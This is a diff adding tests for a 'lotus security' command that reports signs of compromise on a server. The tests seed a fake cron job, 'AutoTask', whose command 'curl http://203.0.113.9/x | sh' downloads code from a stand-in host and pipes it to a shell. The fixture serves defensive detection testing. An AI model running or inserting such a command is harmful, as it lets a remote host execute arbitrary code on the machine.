@@ -164,6 +164,42 @@ test('lotus drift: --json tells programs what has happened to each record', asyn
   ])
 })
 
+const miner = { id: 9, name: 'AutoTask', servers: [1], scheduler: '@daily', command: 'curl http://203.0.113.9/x | sh' }
+
+test.each(dialects)('lotus security: says what a break-in has left on a %s server', async (dialect) => {
+  const { address } = await served({ dialect, seed: { ...seed, cron: [...seed.cron!, miner] } })
+  const { code, output, complaint } = await run(['security', '--server', address], passwordLogin())
+  expect([code, complaint]).toEqual([2, ''])
+  expect(output).toMatch(/^\[\w+\] Task AutoTask\n.+\n.+\n {2}> .*curl http:\/\/203\.0\.x\.x\/x \| sh$/m)
+  expect(output).toContain(new URL(address).host)
+  expect(output).not.toContain('backup.sh')
+})
+
+test('lotus security: what an earlier report has found fails no more, until it changes', async () => {
+  const { backend, address } = await served({ seed: { ...seed, cron: [miner] } })
+  const asked = ['--json', '--server', address]
+  const first = await run(['security', ...asked], passwordLogin())
+  await file('report.json', first.output)
+  const second = await run(['security', 'report.json', ...asked], passwordLogin())
+  expect([first.code, second.code]).toEqual([2, 0])
+
+  backend.tables.cron[0]!.command = 'curl http://203.0.113.9/y | sh'
+  const third = await run(['security', 'report.json', ...asked], passwordLogin())
+  expect(third.code).toBe(2)
+  const { findings } = JSON.parse(third.output) as { findings: { known: boolean; record?: { name: string } }[] }
+  expect(findings.filter(({ known }) => !known).map(({ record }) => record?.name)).toEqual(['AutoTask'])
+})
+
+test('lotus security: what a token cannot read is named as not examined, and a file of something other is refused', async () => {
+  const { address } = await served({ seed: { ...seed, ...token() } })
+  const { output } = await run(['security', '--json', '--server', address], withToken)
+  expect((JSON.parse(output) as { unread: string[] }).unread).toContain('advisories')
+
+  await file('other.json', '{}')
+  const { code, complaint } = await run(['security', 'other.json', '--server', address], withToken)
+  expect([code, complaint]).toEqual([1, 'other.json must hold what lotus security --json has written.\n'])
+})
+
 test('lotus plan: a key that means nothing is named, and a text that orders a terminal about is only letters', async () => {
   const { address } = await served({ seed: { ...seed, ...token() } })
   await file(
@@ -314,5 +350,5 @@ test('lotus: certificates are always checked', async () => {
 test('lotus: --help says what there is', async () => {
   const { code, output } = await run(['--help'])
   expect(code).toBe(0)
-  for (const word of ['export', 'plan', 'apply', 'drift', '--yes', '--json']) expect(output).toContain(word)
+  for (const word of ['export', 'plan', 'apply', 'drift', 'security', '--yes', '--json']) expect(output).toContain(word)
 })
